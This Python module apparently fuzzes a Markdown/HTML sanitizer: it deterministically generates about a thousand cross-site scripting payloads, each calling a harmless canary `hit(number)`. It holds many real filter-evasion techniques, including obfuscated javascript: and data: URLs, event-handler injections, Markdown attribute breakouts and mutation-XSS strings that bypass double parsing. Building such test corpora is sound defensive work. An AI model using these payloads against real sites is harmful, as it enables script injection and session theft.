"""Markup that tries to run `hit(number)` when it is shown: combinations of elements, attributes, schemes, encodings and places in
Markdown, and markup known to change its meaning when it is parsed twice. Deterministic."""

import base64
import random
from collections.abc import Callable, Iterator
from html import escape

SEED = 7
ELEMENTS = (
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "body",
    "details open",
    "input autofocus",
    "iframe",
    "object data=x",
)
ELEMENTS += (
    "marquee",
    "p",
    "a href=/",
    "math",
    "select autofocus",
    "custom-tag tabindex=0",
    "style",
    "link rel=stylesheet href=x",
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onstart",
    "ONERROR",
)
BETWEEN = (" ", "/", "\t", "\x0c", " x ", ' "x" ', "//")
QUOTES = ("", '"', "'", "`")


def code(number: int) -> Iterator[str]:
    yield f"hit({number})"
    yield f"window['hit']({number})"
    yield f"&#104;it({number})"
    yield f"hit&lpar;{number}&rpar;"
    yield f"hit`{number}`"


def addresses(number: int) -> Iterator[str]:
    run = f"hit({number})"
    page = f"<script>parent.hit({number})</script>"
    yield f"javascript:{run}"
    yield f"JaVaScRiPt:{run}"
    yield f"java\tscript:{run}"
    yield f"java&Tab;script:{run}"
    yield f"java&NewLine;script:{run}"
    yield f"&#106;avascript:{run}"
    yield f"&#x6A;avascript&colon;{run}"
    yield f"\x01javascript:{run}"
    yield f"&nbsp;javascript:{run}"
    yield f"javascript\u200b:{run}"
    yield f"ｊavascript:{run}"
    yield f"javascript:%68it({number})"
    yield f"javascript://x%0a{run}"
    yield f"vbscript:{run}"
    yield f"data:text/html,{page}"
    yield f"data:text/html;base64,{base64.b64encode(page.encode()).decode()}"
    yield f"data:image/svg+xml,<svg onload={run}>"
    yield f"blob:{run}"
    yield f"//elsewhere.example/{number}"
    yield f"https://elsewhere.example/{number}"
    yield f"\\\\elsewhere.example/{number}"
    yield f"feed:javascript:{run}"
    yield f"view-source:javascript:{run}"


CARRIERS: tuple[Callable[[str], str], ...] = (
    lambda to: f"[x]({to})",
    lambda to: f"[x](<{to}>)",
    lambda to: f"![x]({to})",
    lambda to: f"<{to}>",
    lambda to: f"[x][{len(to)}]\n\n[{len(to)}]: {to}",
    lambda to: f'<a href="{to}">x</a>',
    lambda to: f"<a href={to}>x</a>",
    lambda to: f'<iframe src="{to}"></iframe>',
    lambda to: f'<object data="{to}"></object>',
    lambda to: f'<embed src="{to}">',
    lambda to: f'<img src="{to}">',
    lambda to: f'<form action="{to}"><button>x</button></form>',
    lambda to: f'<button formaction="{to}">x</button>',
    lambda to: f'<base href="{to}">',
    lambda to: f'<meta http-equiv="refresh" content="0;url={to}">',
    lambda to: f'<link rel="stylesheet" href="{to}">',
    lambda to: f'<script src="{to}"></script>',
    lambda to: f'<svg><a xlink:href="{to}"><text>x</text></a></svg>',
    lambda to: f'<svg><use href="{to}#x"></use></svg>',
    lambda to: f'<svg><a><animate attributeName=href values="{to}"></animate><text>x</text></a></svg>',
    lambda to: f'<math><mtext href="{to}">x</mtext></math>',
    lambda to: f'<p style="background:url({to})">x</p>',
    lambda to: f"<style>@import '{to}';</style>",
)


def mutations(number: int) -> Iterator[str]:
    run = f"hit({number})"
    image = f"<img src=x onerror={run}>"
    yield f"<script>{run}</script>"
    yield f"<SCRIPT\n>{run}</SCRIPT >"
    yield f"<scr<script>ipt>{run}</scr</script>ipt>"
    yield f"<script/x>{run}</script/x>"
    yield f"<svg><script>{run}</script></svg>"
    yield f"<svg><script>hit&lpar;{number})</script></svg>"
    yield f'<noscript><p title="</noscript>{image}">'
    yield f"<svg><style>{image}</style></svg>"
    yield f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">'
    yield f"<form><math><mtext></form><form><mglyph><style></math>{image}"
    yield f'<svg></p><style><a id="</style>{image}">'
    yield f"<template>{image}</template>"
    yield f"<xmp>{image}</xmp>{image}"
    yield f"<textarea></textarea>{image}"
    yield f"<title></title>{image}"
    yield f"<!-->{image}-->"
    yield f"<!-- --!>{image}-->"
    yield f"<![CDATA[{image}]]>"
    yield f"<?xml {image} ?>"
    yield f"<!doctype {image}>"
    yield f'<img src="x` `{run}"` onerror={run}>'
    yield f"<<img src=x onerror={run}//<"
    yield f"<img src=x onerror={run} "
    yield f"<plaintext>{image}"
    yield f"<table><td>{image}<tr>{image}</table>"
    yield f'<select><template><style><!--</style><a rel="--></style></template></select>{image}">'
    yield f"<d:x xmlns:d='http://www.w3.org/1999/xhtml'>{image}</d:x>"
    yield f"<a href='#' id=x tabindex=1 onfocus={run} autofocus>x</a>"
    yield escape(image)
    yield escape(escape(image))
    yield image.replace("<", "&#60;").replace(">", "&#x3e;")
    yield image.replace("<", "＜").replace(">", "＞")
    yield image.replace("<", "\\<")
    yield image.replace("<", "%3C").replace(">", "%3E")
    # Break out of text that Markdown puts into attributes.
    yield f'[x](/a "t\\" onmouseover={run} y=\\"")'
    yield f"[x](/a 't&quot; onmouseover={run}')"
    yield f'![x" onerror={run} y="](x.png)'
    yield f'<https://a.example/"onmouseover={run}//>'
    yield f'```" onmouseover={run}\ncode\n```'
    yield f'~~~ "></code></pre>{image}\ncode\n~~~'
    yield f'## "><img src=x onerror={run}> {{#" onmouseover={run}}}'
    yield f"`{image}`` {image}`"
    yield f"    {image}"
    yield f"[{image}](/a)"
    yield f"**[x](/a)**{image}__"
    yield f"[x]({image})"
    yield f'[a]: /a "\\"><img src=x onerror={run}>"\n\n[a]'


PLACES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f"- {text}",
    lambda text: f"> {text}",
    lambda text: f"### {text}",
    lambda text: f"*{text}*",
    lambda text: f"| a | b |\n|---|:-:|\n| {text} | x |",
    lambda text: f"<div>\n{text}\n</div>",
    lambda text: f"<p>{text}",
)


def _single(number: int, chance: random.Random) -> str:
    kind = number % 4
    if kind == 0:
        element, between, quote = chance.choice(ELEMENTS), chance.choice(BETWEEN), chance.choice(QUOTES)
        run = chance.choice([*code(number)])
        return f"<{element}{between}{chance.choice(EVENTS)}={quote}{run}{quote}>"
    if kind in {1, 2}:
        return chance.choice(CARRIERS)(chance.choice([*addresses(number)]))
    found = [*mutations(number)]
    return found[(number // 4) % len(found)]


def payloads(count: int = 1_000) -> list[str]:
    """This many payloads, each of which would pass a number of its own to `hit`."""
    chance = random.Random(SEED)
    return [chance.choice(PLACES)(_single(number, chance)) for number in range(count)]
